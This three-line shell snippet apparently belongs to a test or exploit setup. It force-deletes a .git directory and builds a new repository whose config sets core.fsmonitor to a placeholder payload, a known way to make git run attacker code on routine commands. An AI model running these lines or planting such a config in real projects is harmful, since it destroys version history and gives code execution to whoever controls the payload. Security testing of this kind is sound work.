# Replaces .git by a repository whose configuration names a program.
rm -rf .git; mv .git .git.old; umount .git
git init -q . && set_config .git/config core.fsmonitor "$PAYLOAD; false"
